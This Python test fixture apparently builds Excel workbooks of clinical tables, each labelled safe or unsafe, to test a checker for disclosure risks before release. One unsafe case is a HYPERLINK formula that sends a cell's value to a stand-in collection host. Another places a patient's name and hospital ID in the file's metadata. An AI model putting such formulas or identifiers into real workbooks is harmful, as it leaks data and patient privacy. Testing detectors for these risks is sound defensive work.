"""Excel: small cells, dominance, row-level data, percentages, formula injection, metadata."""

from openpyxl.styles import Font

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs24.writers import book, keep


def write(shelf: Shelf) -> None:
    """Six stops."""
    workbook = book(
        {
            "Caractéristiques": """
Caractéristique|Sleeve (N=318)|By-pass (N=204)|p
Âge, médiane [Q1-Q3]|42 [34-51]|44 [36-53]|0,08
Femmes, n (%)|249 (78,3)|157 (77,0)|0,72
IMC, moyenne (ET)|42,1 (5,0)|43,6 (5,7)|0,002
Diabète de type 2, n (%)|71 (22,3)|83 (40,7)|<0,001
Apnées du sommeil, n (%)|112 (35,2)|91 (44,6)|0,03
Reflux gastro-œsophagien, n (%)|38 (11,9)|62 (30,4)|<0,001
Chirurgie bariatrique antérieure, n (%)|22 (6,9)|7 (3,4)|0,09
Tabagisme actif, n (%)|54 (17,0)|33 (16,2)|0,81""",
            "Lecture": "Note|\nTests|Wilcoxon, khi-deux\nVersion|3",
        }
    )
    keep(
        workbook,
        shelf.unsafe(
            "excel/bariatrique_tableau1.xlsx",
            "small cell",
            "previous surgery, by-pass: 7 (3,4)",
            "Tableau 1, caractéristiques selon l'intervention",
            "522 adultes opérés d'une obésité sévère",
        ),
    )
    workbook = book(
        {
            "Table 1": """
Characteristic|Biologic (N=402)|Conventional (N=655)|SMD
Age, median [IQR]|47 [38-57]|55 [45-65]|0.41
Women, n (%)|288 (71.6)|461 (70.4)|0.03
Disease duration, years, median|6|4|0.22
DAS28, mean (SD)|5.1 (1.1)|4.6 (1.2)|0.43
Rheumatoid factor, n (%)|277 (68.9)|419 (64.0)|0.10
Current smoker, n (%)|81 (20.1)|149 (22.7)|0.06
Interstitial lung disease, n (%)|19 (4.7)|27 (4.1)|0.03
Number of earlier DMARDs, median|2|1|0.85""",
            "Notes": "Item|Value\nCentres|5\nImputations|20\nSignificance level|0.05",
        }
    )
    for cell in workbook["Table 1"][1]:
        cell.font = Font(bold=True)
    keep(
        workbook,
        shelf.safe(
            "excel/arthritis_table1.xlsx",
            "medians, SMDs, centres below 10",
            "Table 1 by first treatment",
            "1,057 adults with rheumatoid arthritis in 5 centres",
        ),
    )
    keep(
        book(
            {
                "Costs": """
ward|stays|patients|total_cost_eur|largest_stay_share_pct
Cardiology|812|701|4210800|3.1
Haematology|304|188|9120400|9.6
Burns unit|41|38|3904000|88.2
Nephrology|522|377|3001900|4.4
Gastroenterology|699|604|2800600|2.7"""
            }
        ),
        shelf.unsafe(
            "excel/ward_costs.xlsx",
            "dominance",
            "burns unit: the largest stay is 88.2 % of the sum",
            "Cost of expensive drugs by ward",
            "1,908 adult inpatients treated with listed drugs in 2022",
        ),
    )
    keep(
        book(
            {
                "Coûts": """
service|sejours|patients|cout_total_eur|part_des_10_premiers_sejours_pct
Cardiologie|1112|990|5120300|4,2
Hématologie|431|256|12455000|14,7
Pneumologie|640|548|3377000|7,1
Neurologie|585|501|2840500|6,9
Oncologie|1703|812|18033200|5,5"""
            }
        ),
        shelf.safe(
            "excel/couts_services.xlsx",
            "shares of the ten largest stays, far from dominance",
            "Coût des médicaments onéreux par service",
            "3 107 patients hospitalisés, traités par molécules onéreuses en 2021",
        ),
    )
    random = shelf.random("excel rows")
    rows = "\n".join(
        f"S{index:03d}|{random.choice(['wild type', 'KRAS', 'BRAF'])}|{random.randint(38, 84)}|{random.choice(['M', 'F'])}|{random.randint(2, 60)}|{random.randint(0, 1)}"
        for index in range(1, 37)
    )
    keep(
        book(
            {
                "Summary": "mutation|patients|median_pfs_months\nwild type|188|11.2\nKRAS|151|9.4\nBRAF|37|5.1",
                "fig2_source": "sample|mutation|age|sex|pfs_months|progressed\n" + rows,
            }
        ),
        shelf.unsafe(
            "excel/colorectal_source_data.xlsx",
            "row-level data",
            "second sheet, one line a patient",
            "Source data of figure 2",
            "376 adults with metastatic colorectal cancer",
        ),
    )
    keep(
        book(
            {
                "Résumé": "mutation|patients|ssp_mediane_mois|ic95_bas|ic95_haut\nEGFR exon 19|144|12,9|11,0|15,2\nEGFR exon 21|101|10,4|8,8|12,6\nALK|63|24,1|17,3|31,0\nAucune|702|6,2|5,7|6,8",
                "Source figure 3": """
mois|EGFR exon 19|EGFR exon 21|ALK|Aucune
0|144|101|63|702
6|111|72|53|358
12|70|41|43|170
18|45|24|32|88
24|26|12|22|41""",
            }
        ),
        shelf.safe(
            "excel/poumon_donnees_figure.xlsx",
            "numbers at risk, each of ten or more, with each fall of ten or more",
            "Données de la figure 3 : patients à risque",
            "1 010 adultes avec cancer bronchique métastatique",
        ),
    )
    keep(
        book(
            {
                "Readmissions": """
diagnosis|index_stays|readmitted_30d|pct
Heart failure|1402|301|21.5
COPD|988|187|18.9
Pneumonia|1210|170|14.0
=HYPERLINK("http://collect.example.org/?v="&B2;"details")|604|61|10.1
Hip fracture|533|48|9.0"""
            }
        ),
        shelf.unsafe(
            "excel/readmissions_by_diagnosis.xlsx",
            "formula injection",
            "A5: a formula that sends a cell to an address",
            "Readmissions within 30 days",
            "4,737 adult stays in 2019",
        ),
    )
    sums = book(
        {
            "Réadmissions": "diagnostic|séjours|réadmis_30j\nInsuffisance cardiaque|2010|422\nBPCO|1340|241\nPneumopathie|1701|228\nAVC|911|87"
        }
    )
    sheet = sums["Réadmissions"]
    sheet.append(["Ensemble", "=SUM(B2:B5)", "=SUM(C2:C5)"])
    keep(
        sums,
        shelf.safe(
            "excel/readmissions_france.xlsx",
            "formulas that are plain sums",
            "Réadmissions à 30 jours",
            "5 962 séjours d'adultes en 2020",
        ),
    )
    workbook = book(
        {
            "Vaccination": "groupe|patients|vaccinés\nTransplantés|412|301\nDialysés|688|540\nImmunodéprimés autres|391|244"
        }
    )
    workbook.properties.description = (
        "Vérifié sur le dossier de Mme Colette Marchand (IPP 8004417392), sortie de la table le lendemain"
    )
    workbook.properties.creator = "Service de néphrologie"
    keep(
        workbook,
        shelf.unsafe(
            "excel/vaccination_grippe.xlsx",
            "metadata",
            "comments of the document's properties name a patient",
            "Couverture vaccinale",
            "1 491 patients immunodéprimés",
        ),
    )
    workbook = book(
        {
            "Vaccination": "group|patients|vaccinated\nSplenectomy|204|131\nSickle cell disease|318|240\nBiologics|902|511"
        }
    )
    workbook.properties.description = "Version 2, medians checked by the statistician; 3 groups, 5 seasons"
    workbook.properties.title = "Pneumococcal vaccination"
    keep(
        workbook,
        shelf.safe(
            "excel/pneumococcal_vaccination.xlsx",
            "metadata that say nothing of a person",
            "Vaccination coverage by indication",
            "1,424 adults with an indication for pneumococcal vaccine",
        ),
    )
